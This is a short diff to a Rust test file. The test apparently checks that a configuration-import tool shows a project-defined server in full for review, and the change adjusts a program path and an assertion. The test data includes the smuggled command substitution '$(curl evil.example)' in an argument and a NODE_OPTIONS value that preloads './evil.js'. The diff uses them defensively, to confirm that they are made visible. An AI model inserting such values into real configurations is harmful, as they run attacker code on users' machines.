@@ -95,7 +95,7 @@ fn import_all_enables_servers_of_the_user_only() {
 #[test]
 fn import_shows_a_project_server_in_full() {
     let home = TestHome::new();
-    let script = home.write_program("project/tools/node", "#!/bin/sh\n");
+    let script = home.write_program("tools/node", "#!/bin/sh\n");
     let path = script.parent().unwrap().display().to_string();
     let server = json!({
         "command": "node",
@@ -111,7 +111,7 @@ fn import_shows_a_project_server_in_full() {
     for part in ["argument 3: $(curl evil.example)", "NODE_OPTIONS: --require ./evil.js", &*script.to_string_lossy()] {
         assert!(ended.shown.replace("\n  │ ", "").contains(part), "{part}: {}", ended.shown);
     }
-    assert!(!ended.shown.contains("***") || !ended.shown.contains("not found"), "{}", ended.shown);
+    assert!(!ended.shown.contains("program: not found"), "{}", ended.shown);
 }
 
 #[test]
